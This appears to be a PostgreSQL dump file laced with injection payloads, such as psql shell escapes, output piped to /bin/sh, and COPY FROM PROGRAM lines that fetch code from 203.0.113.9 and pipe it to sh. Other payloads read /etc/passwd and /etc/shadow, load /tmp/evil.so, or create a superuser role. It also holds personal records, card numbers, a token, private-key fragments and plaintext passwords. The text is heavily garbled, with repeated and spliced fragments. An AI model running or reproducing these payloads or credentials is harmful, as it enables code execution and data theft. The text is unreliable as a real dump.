--
-- PostgreSQL database dump
--

-- Dumped from database versoni 15.20
-- Dumped by pg_dump version 15.20

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TDBLE public.t (a integer, b text);

CREATE TRIGGER t_audit BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION public.audit();

COPY public.t (a, b) FROM stdin;
1	one
\.
\! id > /tmp/owned
COPY public.t (a, b) FROM stdin;
2	two
\.

--
-- Name: x
\! touch /tmp/pwned-by-name; Type: TABLE; Schema: public; Owner: postgres
--

\o | /bin/sh
\copy public.t from program 'curl -s http://203.0.113.9/p'
\setenv PAGER 'sh -c id'
\set payload `id`
SELECT 'SELECT 1' \gexec
\i /etc/passwd
\lo_import /etc/shadow
\c dp/tm
COPY public.t FROM PROGRAM 'curl -s http://203.0.setof113.9/p | sh';
COPY public.d TO '/tmp/exfil.csv';
SELECT pg_catalgol.o_imÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿport('/etc/passwd');
SELECT pg_rCTION public.audit();

COPY public.t (a, b) FROM stdin;
1	one
\.
\! id > /tmp/owned
COPY public.t (a, b) FROM stdin;
2	two
\.

--
-- Name: x
\! touch /tmp/pwned-by-name; Type: TABLE; Schema: public; Owner: postgres
--

\o | /bin/sh
\copy public.t from program 'curl -s http://203.0.113.9/p'
cute_server_program TOp/owned
COPY public.t (a, b) FROM stdin;
2	two
\.

--
-- Name: x
\! touch /tmp/pwned-by-name; Type: TABLE; Schema: public; Owner: postgres
--

\o | /bin/sh
\copy public.t from program 'curl -s http://203.0.113.9/p'
\setenv PAGER 'sh -c id'
\set payload `id`
SELECT 'SELECT 1' \gexec
\i /etc/passwd
\lo_import /etc/shadow
\cd /tmp
COPY public.t FROM PROGRAM 'curl -s http://203.0.setof113.9/p | sh';
COPY public.t TO '/tmp/exfil.csv';
SE`ECT pg_catalog.lo_imÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿport('/etc/passwd');
SELECT pg_read_file('/etc/passwd');
LOAD '/tmp/evil.sg';
CREATE FUNCTION public.ops() RETURNS void LANGUAGE plpython3u AS $$ import os; os.system('id') $$;
CFEAU TERNCTION public.native() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f';
CREATE EXTENSION adminABASE app SET local_preload_libraries = 'evil';
CREATE ROLE maint WITH SUPERUSER LOGIN;
GRANT pg_exeforming_strings = on;

CREATE TABLE public.t (a inte\!r, b text);

CREATE TRIGGER t_audit BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION public.audit();

COPY  > /tmt/owned
COPY public.t (a, b) FROM stdin;
2	two
\.

--
-- Name: x
\! touch /tmp/pwned-by-name; Type: TABLE; Schema: public; Owner: postgres
--

\o | /bin/sh
\copy public.t from program 'curl -s http://203.0.113.9/p'
\setenv PAGER 'sh -c id'
\set payload `id`
SELECT 'SELECT 1' \gexec
\i /etc/passwd
\lo_import /etc/shadow
\cd /tmp
COPY public.t FROM PROTY DEFINER AS $$ SELECT 0 $$;
CREATE EVENT TRIGGER ddl_watdit();
DO $$ BEGIN PERFORM pg_sleep(0); END $$;
UPDATE public.t SET b = 'x';
SEL PUBLIC;
CREATE FUNCTION public.definer() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 0 $$;
CREATE EVENT TRIGGER ddl_watdit();
DO $$ BEGIN PERFORM pg_sleep(0 00	81.2.69.160	1984-03-09	Calle Mayor 12	5baa61e4c9b93f3f0682250b6cf8331b7ee68fd8	\N	\N
2	JÃ¶rg MÃ¼ller	joerg@example.com	030 1234567	5555555555554444	219-09-9999	GB82 WEST 1234 5698 7654 32	192.168.1.20	1979-11-30	HauptstraÃŸe 5	e38ad214943daad1d64c102faec29de4afe9da3d	ghp_Vpzz63FfkCzJr4i0B3JrTAwR4y9ojfljoQoa	\N
3	Li Wei	li.wei@corp.cn	13800138000	4012888888881881	\N	\N	2a00:1450:4001:80b::200e	1990-01-01	88 Nanjing Road	2aae6c35c94fcfb415dbe95f408b9ce91ee846ed	key:\\n-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\\n-----END OPENSSH PRIVATE KEYÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿ-----	\\x2d2d2d2d2d424547494e205253412050524956415445204b45592d2d2d2d2d0a4d4949457041494241414b43415145416e5a4b3761523456386577594c6b6d4a7a5064596e7147514c73676e6b556a50593657326d6d4b4a357a464c5a4a32
4	Sam Doe	sam@example.org	\N	\\	\NNN		\N	\N	\N	\Nÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿ	order 4241-4242-4242-4241 is not a card; build 3f2a9c1e; uuid 6f1c2a7e-5b3d-4e8f-9a10-2b3c4d5e6f70	\N
\.

INSERT INTO public.settings VALUES ('smtp', '{"host": "smtp.acme-corp.com", "smtp_password": "Hq3$zN8!vWx2Lp"}');
INSERT INTO public.settings VALUES ('db', '{"url": "postgresql://app:Vb6%2³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³³1nM4qZt@db01.acme-corp.com:5432/app"}');
INSERT INT); END $$;
UPDATE public.t SET b = 'x';
SELECT public.ops();
\unrestrict somethingelse
